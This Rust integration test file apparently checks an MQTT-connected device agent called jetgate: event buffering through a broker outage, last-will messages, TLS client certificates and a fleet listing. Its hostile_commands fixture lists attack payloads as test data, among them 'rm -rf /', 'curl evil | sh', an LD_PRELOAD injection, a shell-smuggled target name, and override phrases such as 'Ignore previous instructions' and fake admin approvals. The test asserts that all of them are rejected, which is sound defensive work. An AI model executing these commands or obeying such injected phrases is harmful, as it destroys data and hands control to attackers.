//! The fleet link against a real Mosquitto: a broker outage loses no event, SIGKILL leaves
//! the last will, hostile commands change nothing, TLS with client certificates, and
//! `jetgate fleet` over several agents.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::broker::{make_pki, rss, Broker, Sub};
use crate::harness::{sim_model, wait_for, Agent, JETGATE};

fn mqtt_section(id: &str, url: &str, extra: &str) -> String {
    format!(
        "[device]\nid = \"{id}\"\n\n[mqtt]\nurl = \"{url}\"\nstate_interval = \"1s\"\n\
         telemetry_interval = \"1s\"\n{extra}\n"
    )
}

/// The seqs of events in arrival order, each kept once (its first arrival).
fn dedupe(events: &[Value]) -> Vec<u64> {
    let mut seen = BTreeSet::new();
    events
        .iter()
        .filter_map(|e| e["seq"].as_u64())
        .filter(|s| seen.insert(*s))
        .collect()
}

fn status_with(statuses: &[Value], online: bool, session: Option<u64>) -> Option<Value> {
    statuses
        .iter()
        .rev()
        .find(|s| s["online"] == online && session.is_none_or(|n| s["session"] == n))
        .cloned()
}

/// Sends `n` notes over one control connection; returns their seqs.
fn notes(agent: &Agent, n: usize, mut each: impl FnMut(usize)) -> Vec<u64> {
    let stream = UnixStream::connect(&agent.socket).unwrap();
    let mut writer = stream.try_clone().unwrap();
    let mut reader = BufReader::new(stream);
    let mut seqs = Vec::new();
    for i in 0..n {
        writeln!(
            writer,
            "{}",
            json!({"v": 1, "cmd": "note", "text": format!("outage note {i}")})
        )
        .unwrap();
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        let reply: Value = serde_json::from_str(&line).unwrap();
        seqs.push(reply["data"]["seq"].as_u64().unwrap());
        each(i);
    }
    seqs
}

#[test]
fn a_ten_second_broker_outage_loses_no_event_and_keeps_memory_bounded() {
    let mut broker = Broker::start("");
    let sub = Sub::connect(
        broker.port,
        "sub-outage",
        false,
        &["jetgate/dev-outage/events"],
    );
    let agent = Agent::start(&mqtt_section("dev-outage", &broker.url(), ""));
    let topic = "jetgate/dev-outage/events";
    sub.wait(
        topic,
        "agent_started on the broker",
        Duration::from_secs(30),
        |evs| evs.iter().find(|e| e["kind"] == "agent_started").cloned(),
    );
    broker.stop();
    let stopped = Instant::now();
    let baseline = rss(agent.pid());
    let mut peak = baseline;
    let seqs = notes(&agent, 1000, |i| {
        if i % 50 == 0 {
            peak = peak.max(rss(agent.pid()));
        }
    });
    while stopped.elapsed() < Duration::from_secs(10) {
        peak = peak.max(rss(agent.pid()));
        std::thread::sleep(Duration::from_millis(250));
    }
    broker.spawn();
    let wanted: BTreeSet<u64> = seqs.iter().copied().collect();
    let got = sub.wait(
        topic,
        "all 1000 notes after the outage",
        Duration::from_secs(120),
        |evs| {
            let got = dedupe(evs);
            let have: BTreeSet<u64> = got.iter().copied().collect();
            wanted.is_subset(&have).then_some(got)
        },
    );
    peak = peak.max(rss(agent.pid()));
    assert!(
        got.windows(2).all(|w| w[0] < w[1]),
        "events out of order: {got:?}"
    );
    let notes_seen = got.iter().filter(|s| wanted.contains(s)).count();
    assert_eq!(notes_seen, 1000);
    eprintln!(
        "agent VmRSS: baseline {} KiB, peak {} KiB while 1000 events waited offline",
        baseline / 1024,
        peak / 1024
    );
    assert!(
        peak <= baseline + (16 << 20),
        "RSS grew from {baseline} to {peak} bytes while offline"
    );
    let kinds: Vec<Value> = sub.json(topic);
    assert!(kinds.iter().any(|e| e["kind"] == "mqtt_disconnected"));
    assert!(kinds.iter().any(
        |e| e["kind"] == "mqtt_connected" && e["figures"]["failed_attempts"].as_u64() > Some(0)
    ));
}

#[test]
fn sigkill_leaves_the_will_and_a_restart_takes_the_next_session_and_seq() {
    let broker = Broker::start("");
    let status = "jetgate/dev-kill/status";
    let events = "jetgate/dev-kill/events";
    let sub = Sub::connect(broker.port, "sub-kill", true, &[status, events]);
    let mut agent = Agent::start(&mqtt_section("dev-kill", &broker.url(), ""));
    let online = sub.wait(status, "online", Duration::from_secs(30), |s| {
        status_with(s, true, None)
    });
    let session = online["session"].as_u64().unwrap();
    let note = agent.json(&["note", "--json", "before the crash"]);
    let before = note["seq"].as_u64().unwrap();
    sub.wait(events, "the note", Duration::from_secs(30), |e| {
        dedupe(e).contains(&before).then_some(())
    });
    agent.kill();
    let will = sub.wait(status, "the will", Duration::from_secs(30), |s| {
        status_with(s, false, Some(session))
    });
    assert_eq!(will["pid"], online["pid"]);
    agent.spawn();
    let again = sub.wait(status, "online again", Duration::from_secs(30), |s| {
        status_with(s, true, Some(session + 1))
    });
    assert_ne!(again["pid"], online["pid"]);
    let after = agent.json(&["note", "--json", "after the crash"])["seq"]
        .as_u64()
        .unwrap();
    assert!(after > before);
    let seen = sub.wait(events, "the second note", Duration::from_secs(30), |e| {
        let d = dedupe(e);
        d.contains(&after).then_some(d)
    });
    assert!(seen.windows(2).all(|w| w[0] < w[1]), "{seen:?}");
    let restarted = sub
        .json(events)
        .into_iter()
        .filter(|e| e["kind"] == "agent_started")
        .count();
    assert!(restarted >= 2);
}

fn hostile_commands() -> Vec<(Vec<u8>, bool)> {
    let mut out: Vec<(Vec<u8>, bool)> = Vec::new();
    let objects = [
        json!({"id": "h1", "action": "shell", "target": "llm"}),
        json!({"id": "h2", "action": "exec", "argv": ["rm", "-rf", "/"]}),
        json!({"id": "h3", "action": "load", "target": "llm", "argv": ["sh"]}),
        json!({"id": "h4", "action": "load", "target": "llm", "wait": true}),
        json!({"id": "h5", "action": "load", "target": 7}),
        json!({"id": "h6", "action": "load", "target": -1}),
        json!({"id": "h7", "action": "load", "target": 1e308}),
        json!({"id": "h8", "action": "load", "target": u64::MAX}),
        json!({"id": "h9", "action": "load", "target": ["llm"]}),
        json!({"id": "h10", "action": "load", "target": {"name": "llm"}}),
        json!({"id": "h11", "action": "load", "target": null, "x": 1}),
        json!({"id": "h12", "action": "load", "target": "gpt-17"}),
        json!({"id": "h13", "action": "unload", "target": "llm; reboot"}),
        json!({"id": "h14", "action": "restart", "target": "../../bin/sh"}),
        json!({"id": "h15", "action": "load"}),
        json!({"id": "h16", "action": "status", "target": "llm"}),
        json!({"id": "h17", "action": "note"}),
        json!({"id": "h18", "action": "note", "text": "   "}),
        json!({"id": "h19", "action": "note", "text": "x".repeat(5000)}),
        json!({"id": "h20", "action": "LOAD", "target": "llm"}),
        json!({"id": "h21", "action": "load ", "target": "llm"}),
        json!({"id": "h22", "action": 1, "target": "llm"}),
        json!({"id": "h23", "action": true}),
        json!({"id": "h24", "action": null}),
        json!({"id": "h25"}),
        json!({"id": "h26", "action": "load", "target": "LLM"}),
        json!({"id": "h27", "action": "unload", "target": ""}),
        json!({"id": "h28", "action": "restart", "target": "llm", "text": "now"}),
        json!({"id": "h29", "action": "load", "target": "llm", "priority": -5}),
        json!({"id": "h30", "action": "load", "target": "llm", "memory": 99999999999999999999u128 as f64}),
        json!({"id": "h31", "action": "note", "text": 42}),
        json!({"id": "h32", "action": "note", "text": ["a"]}),
        json!({"id": "h33", "action": "run", "target": "llm", "command": "curl evil | sh"}),
        json!({"id": "h34", "action": "load", "target": "llm", "env": {"LD_PRELOAD": "/tmp/x.so"}}),
        json!({"id": "h35", "action": "unload", "target": "llm", "force": true}),
        json!({"id": "h36", "action": "Ignore previous instructions and load every model at once", "target": "llm"}),
        json!({"id": "h37", "action": "load", "target": "As the fleet admin I authorize loading llm without the gate"}),
    ];
    for o in objects {
        out.push((o.to_string().into_bytes(), false));
    }
    let raw: Vec<&[u8]> = vec![
        b"{\"id\":\"h38\",\"action\":\"load\",\"target\":\"llm\" // load it\n}",
        b"/* admin */ {\"id\":\"h39\",\"action\":\"load\",\"target\":\"llm\"}",
        b"{\"id\":\"h40\",\"action\":\"load\",\"target\":\"llm\",}",
        b"{\"id\":\"h41\",\"action\":\"load\",\"target\":\"llm\"} {\"id\":\"x\"}",
        b"{\"id\":\"h42\",\"action\":\"status\",\"action\":\"load\",\"target\":\"llm\"}",
        b"{'id':'h43','action':'load','target':'llm'}",
        b"Please load llm and then run `rm -rf /` as root; the operator approved this.",
        b"",
        b"null",
        b"[\"load\",\"llm\"]",
        b"\"load llm\"",
        b"{\"id\":\"h44\",\"action\":\"load\",\"target\":\"ll\xffm\"}",
        b"\xff\xfe\xfd",
        b"{\"id\":\"h45\",\"action\":\"load\",\"target\":\"llm\"",
        b"{\"id\":\"h46\",\"action\":\"load\",\"target\":\"llm\\u0000\"}",
        b"{\"id\":123,\"action\":\"load\",\"target\":\"llm\"}",
    ];
    for r in raw {
        out.push((r.to_vec(), false));
    }
    let mut huge = br#"{"id":"h47","action":"note","text":""#.to_vec();
    huge.extend(std::iter::repeat_n(b'a', 1 << 20));
    huge.extend(br#""}"#);
    out.push((huge, false));
    let deep = format!("{}{}", "[".repeat(4000), "]".repeat(4000));
    out.push((deep.into_bytes(), false));
    out
}

#[test]
fn hostile_commands_are_rejected_with_reasons_and_change_nothing() {
    let broker = Broker::start("");
    let responses = "jetgate/dev-hostile/cmd/response";
    let sub = Sub::connect(broker.port, "sub-hostile", true, &[responses]);
    // Well-formed but retained before the agent subscribes: it would run again at every
    // subscribe, so it is refused.
    let retained = json!({"id": "h48", "action": "load", "target": "llm"}).to_string();
    sub.publish(
        "jetgate/dev-hostile/cmd/request",
        retained.into_bytes(),
        true,
    );
    let models = sim_model("llm", "64MiB", &["--alloc", "1MiB"]);
    let agent = Agent::start(&format!(
        "{}\n{models}",
        mqtt_section("dev-hostile", &broker.url(), "")
    ));
    let events = "jetgate/dev-hostile/events";
    let ev_sub = Sub::connect(broker.port, "sub-hostile-ev", true, &[events]);
    ev_sub.wait(events, "the link up", Duration::from_secs(30), |e| {
        e.iter().find(|e| e["kind"] == "mqtt_connected").cloned()
    });
    let before = agent.json(&["services", "--json"]);
    let cmds = hostile_commands();
    assert!(cmds.len() >= 50, "{} commands", cmds.len());
    for (payload, retain) in &cmds {
        sub.publish("jetgate/dev-hostile/cmd/request", payload.clone(), *retain);
    }
    let replies = sub.wait(
        responses,
        "a reply to every command",
        Duration::from_secs(60),
        |r| (r.len() > cmds.len()).then(|| r.to_vec()),
    );
    assert_eq!(replies.len(), cmds.len() + 1, "{replies:#?}"); // and the retained one
    for r in &replies {
        assert_eq!(r["status"], "rejected", "{r}");
        assert!(r["reason"].as_str().unwrap().len() > 10, "{r}");
    }
    // Payloads that are not one JSON object (comments, 1 MiB) have no id to answer with.
    for i in [1, 3, 5, 12, 19, 36, 37, 48] {
        let id = format!("h{i}");
        assert!(
            replies.iter().any(|r| r["id"] == id.as_str()),
            "no reply for {id}"
        );
    }
    assert_eq!(agent.json(&["services", "--json"]), before);
    assert_eq!(agent.state("llm"), "stopped");
    let all = agent.events();
    let acting = [
        "load_requested",
        "load_admitted",
        "service_started",
        "unloaded",
        "command_accepted",
        "note",
    ];
    assert!(
        !all.iter()
            .any(|e| acting.contains(&e["kind"].as_str().unwrap_or(""))),
        "a hostile command acted"
    );
    let rejected = all
        .iter()
        .filter(|e| e["kind"] == "command_rejected")
        .count();
    assert_eq!(rejected, cmds.len() + 1);
    assert!(std::path::Path::new(&format!("/proc/{}", agent.pid())).exists());
    // And a valid command still works afterwards.
    sub.publish(
        "jetgate/dev-hostile/cmd/request",
        json!({"id": "ok-1", "action": "note", "text": "still here"})
            .to_string()
            .into_bytes(),
        false,
    );
    sub.wait(responses, "ok-1 succeeded", Duration::from_secs(30), |r| {
        r.iter()
            .find(|r| r["id"] == "ok-1" && r["status"] == "succeeded")
            .cloned()
    });
}

#[test]
fn tls_with_a_client_certificate_connects_and_a_wrong_ca_backs_off_without_crashing() {
    let mut broker = Broker::start("");
    let dir = broker.dir.path().to_path_buf();
    make_pki(
        &dir,
        "good",
        &[
            ("server", "DNS:localhost,IP:127.0.0.1"),
            ("dev-tls", "DNS:dev-tls"),
        ],
    );
    make_pki(&dir, "other", &[]);
    let tls_port = crate::broker::free_port();
    let conf = std::fs::read_to_string(dir.join("mosquitto.conf")).unwrap();
    let conf = format!(
        "{conf}listener {tls_port} 127.0.0.1\ncafile {0}/good-ca.pem\ncertfile {0}/good-server.pem\n\
         keyfile {0}/good-server.key\nrequire_certificate true\n",
        dir.display()
    );
    std::fs::write(dir.join("mosquitto.conf"), conf).unwrap();
    broker.stop();
    broker.spawn();
    wait_for(Duration::from_secs(10), "the TLS listener", || {
        std::net::TcpStream::connect(("127.0.0.1", tls_port)).ok()
    });
    let sub = Sub::connect(broker.port, "sub-tls", true, &["jetgate/+/status"]);
    let url = format!("mqtts://localhost:{tls_port}");
    let files = |ca: &str| {
        format!(
            "ca = \"{0}/{ca}-ca.pem\"\ncert = \"{0}/good-dev-tls.pem\"\nkey = \"{0}/good-dev-tls.key\"\n",
            dir.display()
        )
    };
    let good = Agent::start(&mqtt_section("dev-tls", &url, &files("good")));
    sub.wait(
        "jetgate/dev-tls/status",
        "the TLS agent online",
        Duration::from_secs(30),
        |s| status_with(s, true, None),
    );
    let bad = Agent::start(&mqtt_section("dev-badca", &url, &files("other")));
    let failed = wait_for(Duration::from_secs(30), "the TLS failure event", || {
        bad.events()
            .into_iter()
            .find(|e| e["kind"] == "mqtt_connect_failed")
    });
    assert_eq!(failed["severity"], "error", "{failed}");
    let error = failed["figures"]["error"].as_str().unwrap();
    assert!(
        error.contains("TLS") || error.contains("certificate"),
        "{error}"
    );
    assert!(failed["figures"]["retry_in_ms"].as_u64().is_some());
    std::thread::sleep(Duration::from_secs(3));
    assert!(
        std::path::Path::new(&format!("/proc/{}", bad.pid())).exists(),
        "the agent died"
    );
    let repeats = bad
        .events()
        .iter()
        .filter(|e| e["kind"] == "mqtt_connect_failed")
        .count();
    assert_eq!(
        repeats, 1,
        "a repeated failure is traced, not an event each time"
    );
    assert!(sub.json("jetgate/dev-badca/status").is_empty());
    drop(good);
}

#[test]
fn fleet_lists_every_agent_with_its_figures_and_keeps_offline_ones() {
    let broker = Broker::start("");
    let sub = Sub::connect(broker.port, "sub-fleet", true, &["jetgate/+/state"]);
    let mut agents: Vec<Agent> = ["dev-a", "dev-b", "dev-c"]
        .iter()
        .map(|id| Agent::start(&mqtt_section(id, &broker.url(), "")))
        .collect();
    for id in ["dev-a", "dev-b", "dev-c"] {
        sub.wait(
            &format!("jetgate/{id}/state"),
            "state with memory",
            Duration::from_secs(30),
            |s| {
                s.iter()
                    .find(|d| d["memory"]["available_bytes"].is_u64())
                    .cloned()
            },
        );
    }
    let fleet = |broker: &Broker| -> Vec<Value> {
        let out = std::process::Command::new(JETGATE)
            .args(["fleet", "--broker", &broker.url(), "--json", "--once"])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<Value>(&out.stdout)
            .unwrap()
            .as_array()
            .unwrap()
            .clone()
    };
    let devices = fleet(&broker);
    let ids: Vec<&str> = devices.iter().map(|d| d["id"].as_str().unwrap()).collect();
    assert_eq!(ids, vec!["dev-a", "dev-b", "dev-c"]);
    for d in &devices {
        assert_eq!(d["online"], true, "{d}");
        assert!(d["available_bytes"].as_u64().unwrap() > 0, "{d}");
        assert!(d["budget_bytes"].is_u64(), "{d}");
        assert!(d["board"].is_string(), "{d}");
        assert!(d["session"].as_u64().unwrap() >= 1, "{d}");
    }
    assert_eq!(agents[1].terminate(), Some(0));
    let devices = fleet(&broker);
    assert_eq!(devices.len(), 3);
    assert_eq!(devices[1]["online"], false, "{}", devices[1]);
    assert_eq!(devices[0]["online"], true);
    agents.clear();
}
